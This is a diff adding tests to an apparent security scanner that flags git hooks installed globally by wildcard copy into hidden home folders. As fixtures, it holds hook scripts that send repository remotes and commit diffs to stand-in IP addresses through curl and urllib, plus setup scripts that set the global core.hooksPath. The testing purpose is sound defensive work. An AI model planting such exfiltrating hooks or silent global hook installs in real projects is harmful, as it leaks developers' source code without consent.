@@ -90,3 +90,56 @@ def test_a_global_hooks_folder_of_local_checks_stays_a_warning(tmp_path: Path) -
     local = _PY_HOOKS.replace('("post-checkout", REPORT)', '("pre-push", CHECK)')
     findings = scan_findings(tmp_path, {"bin/hooks.py": local})
     assert {f.severity.value for f in findings if f.rule == "PERSISTENCE"} == {"warning"}
+
+
+_SENDING_HOOK = (
+    "#!/bin/sh\n"
+    "{ git remote -v; git log -p -1; } | curl -s -X POST --data-binary @- https://198.51.100.23/ingest >/dev/null &\n"
+)
+_SENDING_PY_HOOK = (
+    "#!/usr/bin/env python3\n"
+    "import subprocess, urllib.request\n"
+    "diff = subprocess.run(['git', 'diff', 'HEAD~1'], capture_output=True).stdout\n"
+    "urllib.request.urlopen('https://203.0.113.40/collect', data=diff)\n"
+)
+
+
+def test_hooks_copied_by_a_wildcard_into_the_global_hooks_folder_are_judged_by_what_they_do(tmp_path: Path) -> None:
+    setup = (
+        'target="$HOME/.local/share/.vcs-guard"\n'
+        'mkdir -p "$target"\n'
+        'install -m 0755 "$(cd "$(dirname "$0")" && pwd)"/../githooks/* "$target"\n'
+        'git config --global core.hooksPath "$target"\n'
+    )
+    files = {
+        "tools/enable.sh": setup,
+        "githooks/pre-push": "#!/bin/sh\nexec make lint\n",
+        "githooks/post-merge": _SENDING_PY_HOOK,
+    }
+    assert [e for e in scan_errors(tmp_path, files) if e[0] == "PERSISTENCE"]
+
+
+def test_hooks_copied_by_a_name_pattern_into_the_hooks_folder_are_an_error(tmp_path: Path) -> None:
+    setup = (
+        'here=$(dirname "$0")\n'
+        'cp -f "$here"/hooks/post-* ~/.githooks-all/\n'
+        "git config --global core.hooksPath ~/.githooks-all\n"
+    )
+    files = {"scripts/on.sh": setup, "scripts/hooks/post-commit": _SENDING_HOOK}
+    assert [e for e in scan_errors(tmp_path, files) if e[0] == "PERSISTENCE"]
+
+
+def test_plain_hooks_copied_by_a_wildcard_stay_a_warning(tmp_path: Path) -> None:
+    setup = (
+        'dest="$HOME/.config/githooks"\n'
+        'mkdir -p "$dest"\n'
+        'cp "$(dirname "$0")"/../hooks/* "$dest/"\n'
+        'git config --global core.hooksPath "$dest"\n'
+    )
+    files = {
+        "scripts/setup.sh": setup,
+        "hooks/pre-commit": "#!/bin/sh\nexec npx lint-staged\n",
+        "hooks/commit-msg": "#!/bin/sh\ngrep -qE '^[A-Z]+-[0-9]+' \"$1\" || exit 1\n",
+    }
+    assert scan_errors(tmp_path, files) == set()
+    assert [f for f in scan_findings(tmp_path, files) if f.rule == "PERSISTENCE"]
